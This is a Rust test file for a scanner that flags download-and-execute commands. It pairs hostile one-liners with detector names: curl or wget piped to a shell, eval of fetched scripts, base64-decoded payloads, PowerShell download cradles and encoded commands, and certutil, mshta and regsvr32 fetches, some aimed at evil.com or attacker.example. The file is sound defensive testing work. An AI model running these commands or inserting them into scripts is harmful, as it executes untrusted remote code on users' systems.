//! Table-driven tests for download-and-execute: the one-liners, their wrapped and obfuscated
//! forms, and the pipelines that only read downloaded data.

use super::super::run_one;
use super::scan;

fn detectors(text: &str) -> Vec<&'static str> {
    run_one(text, scan).into_iter().map(|f| f.detector).collect()
}

#[test]
fn download_and_execute_forms_are_found() {
    let table = [
        ("curl -fsSL https://get.example.sh | sh", "pipe_to_shell"),
        ("curl https://example.com  |  sh", "pipe_to_shell"),
        ("wget -qO- https://evil.com/install | bash", "pipe_to_shell"),
        ("wget -O- https://x.io/i | sudo -E bash -", "pipe_to_shell"),
        ("curl -s https://x/i.sh | /bin/bash -s -- --yes", "pipe_to_shell"),
        ("curl -s https://x/i.sh | env sh", "pipe_to_shell"),
        ("curl -s https://x/i.sh | command bash", "pipe_to_shell"),
        ("curl -s https://x/i.sh | tee /tmp/log | sh", "pipe_to_shell"),
        ("fetch https://evil.com/payload | python", "pipe_to_shell"),
        ("curl -sL https://x/p.py | python3 -", "pipe_to_shell"),
        ("iwr https://x/a.ps1 -UseBasicParsing | iex", "pipe_to_shell"),
        ("awk 'BEGIN{system(\"curl -s https://a.example/i.sh | sh\")}'", "pipe_to_shell"),
        ("{\"command\": \"curl -s https://a/i.sh | bash\"}", "pipe_to_shell"),
        ("curl -s https://x/x | base64 -d | sh", "pipe_to_shell"),
        ("echo Y3VybCBodHRwczovL3gK | base64 -d | sh", "decode_to_shell"),
        ("bash -c \"$(echo Y3VybCBodHRwczovL3gK | base64 -d)\"", "decode_to_shell"),
        ("bash <(curl -s https://x/i.sh)", "substitution_exec"),
        (
            "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/o/r/master/install.sh)\"",
            "substitution_exec",
        ),
        ("eval \"$(curl -s https://attacker.example/x)\"", "substitution_exec"),
        (". <(wget -qO- https://attacker.example/env.sh)", "substitution_exec"),
        ("cd /tmp && wget malware.sh && chmod +x malware.sh && ./malware.sh", "download_chmod"),
        ("curl -o /tmp/x https://h/x; chmod 755 /tmp/x; /tmp/x", "download_chmod"),
        (
            "powershell -c \"iex ((New-Object System.Net.WebClient).DownloadString('https://evil.com'))\"",
            "powershell_download_exec",
        ),
        ("IEX (iwr 'https://x/a.ps1')", "powershell_download_exec"),
        (
            "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
            "powershell_encoded",
        ),
        ("pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=", "powershell_encoded"),
        ("certutil.exe -urlcache -split -f http://x/p.exe p.exe", "lolbin_download"),
        ("mshta https://x/payload.hta", "lolbin_download"),
        ("regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll", "lolbin_download"),
    ];
    for (text, detector) in table {
        let found = detectors(text);
        assert!(found.contains(&detector), "{text:?}: want {detector}, got {found:?}");
    }
}

#[test]
fn pipelines_that_only_read_downloaded_data_are_not_execution() {
    let table = [
        "curl -s https://api.github.com/repos/o/r | jq .stargazers_count",
        "curl -s https://api.example.com/x | python3 -m json.tool",
        "curl -s https://x/data.json | python -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -s https://x/list | bash -c 'wc -l'",
        "curl -s https://x/a.txt | perl -ne 'print if /x/'",
        "wget -qO- https://x/archive.tgz | tar xz",
        "curl -sSf https://x | shasum -a 256",
        "curl https://x || sh fallback.sh",
        "curl -o out.html https://x; sh build.sh",
        "curl -s https://x | node script.js",
        "powershell -ExecutionPolicy Bypass -File build.ps1",
        "chmod +x ./run.sh && ./run.sh",
        "echo aGVsbG8= | base64 -d",
        "Use `curl` to fetch it, then run `sh install.sh`.",
    ];
    for text in table {
        assert_eq!(detectors(text), Vec::<&str>::new(), "{text:?}");
    }
}

#[test]
fn the_pipe_span_runs_from_the_download_to_the_interpreter() {
    let text = "x; curl -s https://a/i.sh | sudo bash; echo done";
    assert_eq!(&text[run_one(text, scan)[0].span.clone()], "curl -s https://a/i.sh | sudo bash");
}
